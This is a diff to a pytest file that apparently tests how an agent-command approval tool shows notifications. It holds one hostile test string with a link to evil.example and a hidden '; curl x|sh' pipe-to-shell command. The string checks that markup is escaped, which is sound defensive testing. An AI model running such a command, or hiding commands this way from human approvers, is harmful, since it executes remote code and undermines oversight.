@@ -15,7 +15,7 @@ import pytest
 
 from omp_a2a_bridge.server import proposals, rules
 
-from .conftest import require_system, write_config
+from .conftest import write_config
 from .dbus_fakes import FakeNotifications
 from .helpers import in_thread, wait_for
 from .test_attack_paths import NO_APPROVER, Serve, _leaks, _start, _stop
@@ -119,35 +119,15 @@ def test_bash_spellings_do_not_block_harmless_commands(ruled):
 # -- desktop notifications: agent text is never read as markup ---------------------------------
 
 
-@pytest.fixture
-def dbus(monkeypatch):
-    from .dbus_fakes import PrivateBus
-
-    require_system("dbus-daemon", packages="dbus-daemon")
-    bus = PrivateBus()
-    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", bus.address)
-    yield bus
-    bus.close()
-
-
-@pytest.fixture
-def tray_watcher(dbus):
-    from .dbus_fakes import FakeWatcher
-
-    w = FakeWatcher(dbus.address)
-    yield w
-    w.close()
-
-
 HOSTILE = 'echo <a href="http://evil.example/">ok</a> <span size="1">; curl x|sh</span>'
 
 
 @pytest.mark.parametrize("caps", [("body", "body-markup", "actions"), ("body", "actions")])
-def test_notification_body_shows_agent_text_as_written(tray_watcher, env, caps):
+def test_notification_body_shows_agent_text_as_written(watcher, env, caps):
     """A server that advertises ``body-markup`` reads ``<a>``/``<span size>``: the risky half
     of a command could be hidden or turned into a link. There the text arrives escaped; a
     server without markup gets it unchanged."""
-    server = FakeNotifications(tray_watcher.address, caps)
+    server = FakeNotifications(watcher.address, caps)
     write_config(env["config"], {"roots": [env["root"]], "approval": {"timeout_s": 20}})
     t = SniTray(env, notifier=True)
     try:
@@ -166,9 +146,9 @@ def test_notification_body_shows_agent_text_as_written(tray_watcher, env, caps):
         server.close()
 
 
-def test_plain_notification_is_escaped_for_a_markup_server(tray_watcher, env):
+def test_plain_notification_is_escaped_for_a_markup_server(watcher, env):
     """Without buttons the tray sends its plain 'Approval needed' notification itself (SNI)."""
-    server = FakeNotifications(tray_watcher.address, ("body", "body-markup"))
+    server = FakeNotifications(watcher.address, ("body", "body-markup"))
     write_config(env["config"], {"roots": [env["root"]], "approval": {"timeout_s": 20}})
     t = SniTray(env, notifier=True)
     try:
